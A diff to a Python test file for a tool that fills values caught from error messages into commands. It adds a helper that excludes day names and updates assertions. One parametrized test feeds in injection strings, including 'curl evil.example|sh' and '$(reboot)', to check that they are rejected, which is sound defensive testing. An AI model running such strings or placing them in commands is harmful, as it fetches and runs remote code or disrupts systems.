@@ -3,8 +3,9 @@
 import pytest
 
 from mildladder.core.climb.answers import answers
-from mildladder.core.climb.machine import apply, climb
+from mildladder.core.climb.machine import Climb, apply, climb
 from mildladder.core.errors import Conflict
+from mildladder.core.ladder.days import DAY_NAMES
 from mildladder.core.model import Playbook
 from mildladder.core.model import events as c
 from tests.core.climb.test_closing import FAILS, climbed, one_rung
@@ -24,15 +25,20 @@ def test_the_changing_part_of_a_message_becomes_a_value():
     assert now.known["code"] == "E-7"
 
 
+def told(now: Climb) -> dict[str, str]:
+    """What may stand in commands, but for the day, which nobody tells."""
+    return {name: value for name, value in now.for_commands.items() if name not in DAY_NAMES}
+
+
 def test_what_was_caught_is_confirmed_before_it_fills_a_command():
     now = climbed(with_message(), FAILS, said="ARM 3 NOT HOME, CODE E-7")
-    assert (now.place, now.asked.id, now.suggested, now.for_commands) == ("step", "arm", "3", {"model": "GR4"})
+    assert (now.place, now.asked.id, now.suggested, told(now)) == ("step", "arm", "3", {"model": "GR4"})
     before = climbed(with_message(), FAILS, said=now.started.said, rules=1)
     assert (before.place, before.asked.id) == ("fact", "arm")
     first = answers(before)[0]
     assert (first.key, first.label, first.move) == ("1", "“3”, as was said", c.FactGiven(fact="arm", value="3"))
     now = climbed(with_message(), FAILS, first.move, c.FactGiven(fact="code", value="E-8"), said=now.started.said)
-    assert (now.asked_inside, now.for_commands) == ((), {"model": "GR4", "arm": "3", "code": "E-8"})
+    assert (now.asked_inside, told(now)) == ((), {"model": "GR4", "arm": "3", "code": "E-8"})
 
 
 @pytest.mark.parametrize("said", ["ARM 3; curl evil.example|sh NOT HOME", "ARM -rf NOT HOME", "ARM $(reboot) NOT HOME"])
@@ -77,11 +83,11 @@ def test_a_case_begun_before_values_were_confirmed_goes_on_as_it_began():
     started = c.Started(said="ARM 3 NOT HOME, CODE E-7", facts={"model": "GR4"}, trusts_speech=True, rules=1)
     moves = [started, FAILS, c.Answered(step="fix", outcome="no-change")]
     now = climb(with_message(), [c.ClimbEvent(at=NOON, who=1, move=move) for move in moves])
-    assert now.for_commands == {"model": "GR4", "arm": "3", "code": "E-7"}
+    assert told(now) == {"model": "GR4", "arm": "3", "code": "E-7"}
     unsafe = started.model_copy(update={"said": "ARM a b NOT HOME, CODE E-7"})
     now = climb(with_message(), [c.ClimbEvent(at=NOON, who=1, move=move) for move in [unsafe, *moves[1:]]])
     assert [attempt.step for attempt in now.attempts] == ["fix"]
-    assert "arm" not in now.for_commands
+    assert "arm" not in told(now)
 
 
 def test_a_part_that_nobody_told_is_asked_for():
@@ -105,7 +111,7 @@ def test_a_computed_value_is_never_asked_for_but_what_it_waits_for_is():
     now = climbed(with_sum(), FAILS)
     assert (now.place, now.asked.id) == ("step", "speed")
     now = climbed(with_sum(), FAILS, c.FactGiven(fact="speed", value="90"))
-    assert (now.place, now.for_commands["slower"], now.known["slower"]) == ("step", "85", "85")
+    assert (now.place, told(now)["slower"], now.known["slower"]) == ("step", "85", "85")
 
 
 def test_where_nobody_can_tell_a_value_what_is_computed_from_it_stays_open():
